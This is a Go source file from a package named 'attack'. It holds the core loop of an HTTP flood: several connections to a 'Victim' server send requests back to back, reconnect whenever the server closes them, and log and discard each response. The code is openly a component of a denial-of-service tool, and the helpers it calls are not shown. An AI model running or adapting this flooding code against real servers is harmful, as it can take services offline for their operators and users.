package attack

import (
	"bufio"
	"context"
	"io"
	"net"
	"net/http"
)

// ask is an attack by n connections: each sends what say makes whenever the last of it was answered, and comes again
// when the pump closes it.
func ask(n int, say func(Victim) []byte) func(context.Context, Victim, *Log) error {
	return func(ctx context.Context, v Victim, log *Log) error {
		keep(ctx, v.scaled(n), v.Plain, 0, log, func(conn *net.TCPConn) error {
			for r := bufio.NewReader(conn); ; {
				log.sent(1)
				if _, err := conn.Write(say(v)); err != nil {
					return err
				}
				if last, err := readAnswer(r, http.MethodGet, log); last {
					return err
				}
			}
		})
		return nil
	}
}

// readAnswer reads a whole answer with its body, to a request of a method. last: the server closes after it.
func readAnswer(r *bufio.Reader, method string, log *Log) (last bool, err error) {
	answer, err := http.ReadResponse(r, &http.Request{Method: method})
	if err != nil {
		return true, err
	}
	log.answered(answer.StatusCode)
	if _, err := io.Copy(io.Discard, answer.Body); err != nil {
		return true, err
	}
	return answer.Close, nil
}
